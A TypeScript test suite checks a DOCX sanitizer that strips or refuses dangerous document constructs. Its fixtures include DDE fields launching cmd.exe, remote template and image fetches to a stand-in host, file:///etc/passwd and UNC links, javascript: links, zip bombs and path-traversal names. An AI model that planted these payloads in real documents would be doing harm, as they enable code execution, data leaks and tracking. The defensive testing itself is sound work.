import { describe, expect, it } from 'vitest';
import { readArchive } from './archive.ts';
import { cleanDocx } from './docx.ts';
import {
  docxOf,
  docxParts,
  MAIN_TYPE,
  namedRelation,
  OFFICE,
  relation,
  relationsXml,
  textXml,
  typesXml,
  zipOf,
} from './samples.ts';

const partsOf = async (bytes: Buffer) => readArchive(Buffer.from(await cleanDocx(bytes)));
const relations = (kind: string, target: string, mode = 'External') =>
  docxOf({ 'word/_rels/document.xml.rels': relationsXml(relation(kind, target, mode)) });
const PNG = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
const RELATIONS = 'word/_rels/document.xml.rels';

describe('a DOCX', () => {
  it('keeps its parts, and begins with its types', async () => {
    const parts = await partsOf(await docxOf({ 'word/media/image1.png': PNG }));
    expect([...parts.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/document.xml',
      'word/media/image1.png',
    ]);
    expect(String(parts.get('word/document.xml'))).toBe(docxParts()['word/document.xml']);
  });

  it('keeps headers, links, pictures, drawings and charts as they were', async () => {
    const drawings = 'http://schemas.openxmlformats.org/drawingml/2006';
    const shape = 'http://schemas.microsoft.com/office/word/2010/wordprocessingShape';
    const spaces = `xmlns:r="${OFFICE}" xmlns:a="${drawings}/main" xmlns:c="${drawings}/chart" xmlns:wps="${shape}" xmlns:v="urn:schemas-microsoft-com:vml"`;
    const body = [
      '<w:hyperlink r:id="l"><w:r><w:t>link</w:t></w:r></w:hyperlink><a:blip r:embed="p"/>',
      `<a:graphicData uri="${drawings}/chart"><c:chart r:id="c"/></a:graphicData>`,
      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><wps:wsp/></mc:Choice><mc:Fallback><v:shape style="position:absolute" alt="Photo: me"/></mc:Fallback></mc:AlternateContent>',
      '<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>',
    ].join('');
    const given: Record<string, string | Buffer> = {
      'word/document.xml': textXml(body, spaces),
      [RELATIONS]: relationsXml(
        [
          namedRelation('l', 'hyperlink', 'https://good.test/', 'External'),
          namedRelation('p', 'image', '/word/media/%D0%B0%20b.png'),
          namedRelation('c', 'chart', 'charts/chart1.xml'),
          namedRelation('h', 'header', 'Header1.xml'),
        ].join(''),
      ),
      'word/media/а b.png': PNG,
      'word/charts/chart1.xml': `<c:chartSpace xmlns:c="${drawings}/chart"><c:f>Sheet1!$A$2:$A$5</c:f><c:formatCode>#,##0.00\\ "x"</c:formatCode></c:chartSpace>`,
      'word/header1.xml': textXml('<w:p><w:r><w:t>header</w:t></w:r></w:p>'),
    };
    const parts = await partsOf(await docxOf(given));
    for (const name of Object.keys(given).filter((one) => one !== RELATIONS))
      expect(String(parts.get(name)), name).toBe(String(given[name]));
    expect(String(parts.get(RELATIONS)).match(/<Relationship /g)).toHaveLength(4);
  });

  it('says no more who wrote it', async () => {
    const names = ['core', 'app', 'custom'].map((name) => `docProps/${name}.xml`);
    const secret = '<?xml version="1.0"?><p><creator>Secret author</creator></p>';
    const parts = await partsOf(await docxOf(Object.fromEntries(names.map((name) => [name, secret]))));
    for (const name of names) {
      expect(String(parts.get(name))).toMatch(/^<\?xml .*\?>\n<\w+ xmlns="http[^"]+"\/>$/);
      expect(String(parts.get(name))).not.toContain('Secret');
    }
  });

  it('is the same file for the same parts, whoever packed them', async () => {
    const parts = docxParts();
    const turned = Object.fromEntries(Object.entries(parts).reverse());
    const [one, other] = [await cleanDocx(await zipOf(parts)), await cleanDocx(await zipOf(turned))];
    expect(Buffer.from(one).length).toBe(Buffer.from(other).length);
    expect(Buffer.from(await cleanDocx(await zipOf(parts))).equals(Buffer.from(one))).toBe(true);
  });

  it('has nothing between, before or behind its parts', async () => {
    const given = Buffer.concat([await docxOf()]);
    const marked = Buffer.concat([given.subarray(0, -2), Buffer.from([9, 0]), Buffer.from('<script>!')]);
    const clean = Buffer.from(await cleanDocx(marked));
    expect(clean.includes('<script')).toBe(false);
    expect((await readArchive(clean)).size).toBe(3);
  });

  it('keeps a link of the web', async () => {
    const parts = await partsOf(await relations('hyperlink', 'https://good.test/?a=1&amp;b=2'));
    expect(String(parts.get(RELATIONS))).toContain(
      `/hyperlink" Target="https://good.test/?a=1&amp;b=2" TargetMode="External"/>`,
    );
  });

  it.each([
    ['a link to a file', 'hyperlink', 'file:///etc/passwd'],
    ['a link to a share', 'hyperlink', '\\\\evil.test\\x'],
    ['a script', 'hyperlink', 'javascript:alert(1)'],
    ['a picture elsewhere', 'image', 'https://evil.test/pixel.png'],
    ['a template elsewhere', 'attachedTemplate', 'https://evil.test/macros.dotm'],
  ])('leads to nothing that is fetched: %s', async (_, kind, target) => {
    const link = '<w:hyperlink r:id="rId1"><w:r><w:t>shown</w:t></w:r></w:hyperlink>';
    const parts = await partsOf(
      await docxOf({
        'word/document.xml': textXml(link, `xmlns:r="${OFFICE}"`),
        [RELATIONS]: relationsXml(relation(kind, target, 'External')),
      }),
    );
    expect(String(parts.get(RELATIONS))).not.toMatch(/<Relationship |External/);
    expect(String(parts.get(RELATIONS))).not.toContain(target);
    expect(String(parts.get('word/document.xml'))).toContain(link.replace(' r:id="rId1"', ''));
  });

  it('knows a target outside however it is written', async () => {
    const written = relationsXml(
      `<x:Relationship xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships" Target='https://evil.test/m.dotm' TargetMode = 'Extern&#97;l' Type="${OFFICE}/attachedTemplate" Id="a"/>`,
    );
    const parts = await partsOf(await docxOf({ [RELATIONS]: written }));
    expect(String(parts.get(RELATIONS))).not.toMatch(/<Relationship |External|evil/);
  });

  it('does not even open the sheets in it, which would unpack to more than all of it may', async () => {
    const sheet = await zipOf({ 'xl/worksheets/sheet1.xml': Buffer.alloc(40 * 1024 * 1024, ' ') });
    const sheets = Array.from({ length: 8 }, (_, index) => [`word/embeddings/s${index}.xlsx`, sheet]);
    expect((await partsOf(await docxOf(Object.fromEntries(sheets)))).size).toBe(3);
  });
});

/** A field in pieces: a text of its code goes into a run of its own, a field in it is another list. */
type Code = (string | Code)[];
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const codeRun = (text: string) =>
  `<w:r><w:instrText xml:space="preserve">${escaped(text)}</w:instrText></w:r>`;
const field = (code: Code, shown = '<w:r><w:t>shown</w:t></w:r>'): string =>
  [
    mark('begin'),
    ...code.map((part) => (typeof part === 'string' ? codeRun(part) : field(part, codeRun('1')))),
    mark('separate'),
    shown,
    mark('end'),
  ].join('');
const simple = (code: string) =>
  `<w:fldSimple w:instr="${escaped(code)}"><w:r><w:t>shown</w:t></w:r></w:fldSimple>`;
const inParagraph = (body: string) => textXml(`<w:p>${body}</w:p>`);
const sanitized = async (body: string, part = 'word/document.xml') =>
  String((await partsOf(await docxOf({ [part]: inParagraph(body) }))).get(part));

const HARMLESS = [
  'PAGE',
  ' PAGE  \\* MERGEFORMAT ',
  'NUMPAGES',
  'TOC \\o "1-3" \\h \\z \\u',
  'REF _Ref123 \\h',
  'PAGEREF _Toc1 \\h',
  'DATE \\@ "dd.MM.yyyy"',
  '=2+2',
  'HYPERLINK "https://good.test/?a=1&b=2"',
  'HYPERLINK \\l "_Toc1"',
  'HYPERLINK "mailto:a@good.test" \\o "write" \\t "_blank"',
  'HYPERLINK https://good.test',
];
const FETCHING = [
  'INCLUDEPICTURE "\\\\\\\\evil.test\\\\share\\\\x.png" \\d',
  'INCLUDEPICTURE "https://evil.test/x.png" \\d \\* MERGEFORMATINET',
  'includetext "\\\\\\\\evil.test\\\\x.docx"',
  'IMPORT "https://evil.test/x"',
  'LINK Excel.Sheet.12 "\\\\\\\\evil.test\\\\x.xlsx" \\a',
  'DATABASE \\d "evil.test" \\s "select"',
  'RD "\\\\\\\\evil.test\\\\x.docx"',
  'MACROBUTTON evil',
  'QUOTE "evil.test"',
  '"INCLUDEPICTURE" "https://evil.test"',
  'PAGEINCLUDEPICTURE "https://evil.test"',
];
const BAD_LINKS = [
  'HYPERLINK "file:///etc/evil.test"',
  'HYPERLINK "\\\\\\\\evil.test\\\\x"',
  'HYPERLINK \\\\\\\\evil.test\\\\x',
  'HYPERLINK “\\\\\\\\evil.test\\\\x”',
  'HYPERLINK \\l "here" "file://evil.test"',
  'HYPERLINK "https://good.test" "file://evil.test"',
  'HYPERLINK "javascript:evil.test()"',
];

describe('a field of a DOCX', () => {
  it.each(HARMLESS)('that says something of the document stays: %s', async (code) => {
    for (const body of [field([code]), field([code.slice(0, 3), code.slice(3)]), simple(code)])
      expect(await sanitized(body)).toBe(inParagraph(body));
  });

  it.each(FETCHING)('that would fetch shows what it showed, and fetches nothing: %s', async (code) => {
    const split = [...code.match(/[\s\S]{1,3}/g)!];
    for (const part of ['word/document.xml', 'word/header1.xml', 'word/footnotes.xml'])
      for (const body of [field([code]), field(split), simple(code)]) {
        const text = await sanitized(body, part);
        expect(text).toContain('<w:t>shown</w:t>');
        expect(text).toContain(' SHAPE ');
        expect(text).not.toMatch(/evil|INCLUDE|LINK|DATABASE|MACRO|QUOTE/i);
      }
  });

  it.each(BAD_LINKS)('that leads to a file leads nowhere: %s', async (code) => {
    for (const body of [field([code]), simple(code)]) {
      const text = await sanitized(body);
      expect(text).toMatch(/ HYPERLINK (?:"|&quot;)about:blank(?:"|&quot;) /);
      expect(text).toContain('<w:t>shown</w:t>');
      expect(text).not.toContain('evil');
    }
  });

  it('in another is judged by itself, in its code and in what it shows', async () => {
    const inner = 'INCLUDEPICTURE "https://evil.test/x.png"';
    for (const body of [
      field(['IF 1 = 1 "', [inner], '" "no"']),
      field(['PAGE'], field([inner])),
      field([inner], field([inner])),
      field(['PAGE'], simple(inner)),
      field([inner, ['PAGE']]),
    ]) {
      const text = await sanitized(body);
      expect(text).toContain(' SHAPE ');
      expect(text).not.toMatch(/evil|INCLUDE/);
    }
    const harmless = field(['IF ', ['MERGEFIELD Name'], ' = "" "dear" "you"']);
    expect(await sanitized(harmless)).toBe(inParagraph(harmless));
  });

  it('whose link another field makes leads nowhere', async () => {
    const text = await sanitized(field(['HYPERLINK "https://', ['REF bookmark'], '"']));
    expect(text).toContain(' HYPERLINK "about:blank" ');
    expect(text).not.toContain('https');
  });

  it.each<[string, string]>([
    ['asks another program', field(['DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"'])],
    ['asks another program in pieces', field(['D', 'D', 'E cmd'])],
    ['asks another program in short', simple('DDE cmd')],
    ['asks another program inside another', field(['IF 1 = 1 ', ['DDE cmd']])],
    ['is made of numbers', field([['QUOTE 68 68 69'], ' cmd'])],
    ['is partly made of numbers', field(['IF 1 = 1 ', ['QUOTE 68 68 69']])],
    ['has a name that another makes', field([['REF bookmark'], ' "https://evil.test"'])],
    ['has a part of its name from another', field(['D', ['REF bookmark'], ' cmd'])],
    ['has a name in characters of another kind', field(['PAGE']).replace('>PAGE<', '><![CDATA[DDE cmd]]><')],
    [
      'is of another vocabulary',
      `<x:instrText xmlns:x="urn:x">PAGE </x:instrText>${field(['INCLUDEPICTURE "https://evil.test"'])}`,
    ],
    [
      'begins and ends at once',
      field(['PAGE']).replace(
        'w:fldCharType="begin"',
        'w:fldCharType="begin" xmlns:x="urn:x" x:fldCharType="end"',
      ),
    ],
    ['hides an element in its code', field(['PAGE']).replace('>PAGE<', '>PAGE<w:t>x</w:t><')],
  ])('that %s is refused', async (_, body) => {
    await expect(sanitized(body)).rejects.toThrow(/field|program|made/);
  });

  it('whose code depends on the reader fetches nothing', async () => {
    const evil = codeRun('INCLUDEPICTURE "https://evil.test/x.png"');
    const whole = (code: string) => `${mark('begin')}${code}${mark('separate')}${mark('end')}`;
    const other = (name: string, code: string) => `<${name}>${code}</${name}>`;
    const alternatives = (choice: string, fallback: string) =>
      `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">${other('mc:Choice', choice)}${other('mc:Fallback', fallback)}</mc:AlternateContent>`;
    for (const code of [
      `${other('w:ins', codeRun('PAGE '))}${evil}`,
      `${codeRun('PAGE ').replaceAll('instrText', 'delInstrText')}${evil}`,
      `${other('w:del', codeRun('PAGE ').replaceAll('instrText', 'delInstrText'))}${evil}`,
      alternatives(codeRun('PAGE '), evil),
    ])
      expect(await sanitized(whole(code))).not.toMatch(/evil|INCLUDE/);
    const loose = await sanitized(`${evil}${field(['PAGE'])}`);
    expect(loose).not.toContain('evil');
    expect(loose).toContain('>PAGE<');
    expect(await sanitized(alternatives(field(['PAGE']), field(['PAGE'])))).toContain('>PAGE<');
  });

  it('is taken out without a change to anything beside it', async () => {
    const rest = `<w:r><w:t xml:space="preserve"> &lt;b&gt; "oʻzbek" &amp; 😀\u00a0</w:t><w:tab/></w:r>`;
    const text = await sanitized(`${rest}${field(['LINK Excel.Sheet.12 x'])}${rest}`);
    expect(text.split(rest)).toHaveLength(3);
    expect(text).toMatch(/^<\?xml version="1.0" encoding="UTF-8" standalone="yes"\?>\n?<w:document /);
  });
});

describe('a drawing of a DOCX', () => {
  it('fetches no picture by its address, and leads to no file', async () => {
    const body = [
      '<v:imagedata r:id="rId1" src="file://evil.test/a" o:href="https://evil.test/b"/>',
      '<v:fill src="\\\\evil.test\\c"/>',
      '<v:shape href="file://evil.test/d"/>',
      '<v:shape href="https://good.test"/>',
    ].join('');
    const spaces = `xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${OFFICE}"`;
    const parts = await partsOf(
      await docxOf({
        'word/document.xml': textXml(body, spaces),
        [RELATIONS]: relationsXml(relation('image', 'media/image1.png')),
        'word/media/image1.png': PNG,
      }),
    );
    const text = String(parts.get('word/document.xml'));
    expect(text).not.toContain('evil');
    expect(text).toContain('<v:imagedata r:id="rId1"/>');
    expect(text).toContain('href="https://good.test"');
  });
});

describe('refused is a DOCX', () => {
  const refused = async (bytes: Buffer) => {
    await expect(cleanDocx(bytes)).rejects.toThrow();
  };

  it.each<[string, Record<string, string | Buffer>]>([
    ['with macros', { 'word/vbaProject.bin': 'x' }],
    ['with macros under another name', { 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }],
    ['with a program as a picture', { 'word/media/image1.png': 'MZ\x90' }],
    ['with a program', { 'word/embeddings/setup.exe': 'x' }],
    ['with an object of another program', { 'word/embeddings/oleObject1.bin': 'x' }],
    ['with a web page', { 'word/afchunk.html': '<html>' }],
    ['with another document of Word', { 'word/afchunk.docx': 'x' }],
    [
      'that says that it has macros',
      { '[Content_Types].xml': typesXml('application/vnd.ms-word.document.macroEnabled.main+xml') },
    ],
    [
      'that is a template',
      { '[Content_Types].xml': typesXml(MAIN_TYPE.replace('document.main', 'template.main')) },
    ],
    [
      'whose types are of a sheet',
      {
        '[Content_Types].xml': typesXml(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        ),
      },
    ],
    [
      'with a type of controls',
      {
        '[Content_Types].xml': typesXml(
          MAIN_TYPE,
          '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
        ),
      },
    ],
    ['with a DTD', { 'word/document.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${textXml('')}` }],
    ['with broken XML', { 'word/document.xml': textXml('<w:p>') }],
    ['in UTF-16', { 'word/document.xml': Buffer.from(`\ufeff${textXml('')}`, 'utf16le') }],
    ['in an encoding that only some know', { 'word/document.xml': textXml('').replace('UTF-8', 'UTF-7') }],
    ['that asks a database', { 'word/settings.xml': textXml('<w:connectString w:val="Data Source=x"/>') }],
  ])('%s', async (_, more) => refused(await docxOf(more)));

  it.each(['oleObject', 'frame', 'subDocument', 'aFChunk', 'control', 'mailMergeSource', 'vbaProject'])(
    'that leads to another file as %s',
    async (kind) => refused(await relations(kind, 'https://evil.test/x')),
  );

  it('without text or types', async () => {
    const { 'word/document.xml': _, ...textless } = docxParts();
    await refused(await zipOf(textless));
    const { '[Content_Types].xml': __, ...typeless } = docxParts();
    await refused(await zipOf(typeless));
    await refused(await zipOf({ 'a.txt': 'x' }));
  });

  it('that is cut off, or damaged', async () => {
    const given = await docxOf();
    await refused(given.subarray(0, given.length * 0.6));
    const damaged = Buffer.from(given);
    const at = damaged.indexOf('word/document.xml') + 'word/document.xml'.length + 20;
    damaged[at] = damaged[at]! ^ 0xff;
    await refused(damaged);
  });

  it('that is a bomb: few bytes that claim to be gigabytes, or claim not to be', async () => {
    const bomb = await docxOf({ 'word/media/a.bmp': Buffer.alloc(130 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(1_000_000);
    await refused(bomb);
    const lying = await docxOf({ 'word/media/a.bmp': Buffer.alloc(50 * 1024 * 1024) });
    // Sizes of the entry in the central directory and before its bytes.
    const size = Buffer.alloc(4);
    size.writeUInt32LE(50 * 1024 * 1024);
    for (let at = lying.indexOf(size); at >= 0; at = lying.indexOf(size, at + 1))
      lying.writeUInt32LE(1000, at);
    await refused(lying);
  });

  it.each(['file:///etc/passwd', '\\\\evil.test\\x', '//evil.test/x', 'https://evil.test/x'])(
    'whose part is said to be %s',
    async (target) => refused(await relations('image', target, '')),
  );

  it('that says in its own way that something is elsewhere', async () => {
    const text = String(
      (await partsOf(await relations('image', 'file://evil.test/x', 'external'))).get(RELATIONS),
    );
    expect(text).not.toContain('evil');
  });

  it('with names that lead out of it, or twice the same', async () => {
    const rename = async (to: string) => {
      const given = await docxOf({ 'word/media/aaaa.png': 'x' });
      const text = given.toString('latin1').replaceAll('word/media/aaaa.png', to);
      return Buffer.from(text, 'latin1');
    };
    expect((await readArchive(await rename('word/media/bbbb.png'))).size).toBe(4);
    await refused(await rename('../../../aaaaaaa.png'.slice(0, 19)));
    await refused(await rename('/etc/passwd/aaa.png'));
    const twice = await docxOf({ 'word/Document.xml': textXml('another') });
    await refused(twice);
  });

  it('with a password', async () => {
    const given = await docxOf();
    const flagged = Buffer.from(given);
    for (const mark of ['PK\x03\x04', 'PK\x01\x02'])
      for (let at = flagged.indexOf(mark); at >= 0; at = flagged.indexOf(mark, at + 1)) {
        const flags = at + (mark === 'PK\x03\x04' ? 6 : 8);
        flagged[flags] = flagged[flags]! | 1;
      }
    await refused(flagged);
  });
});
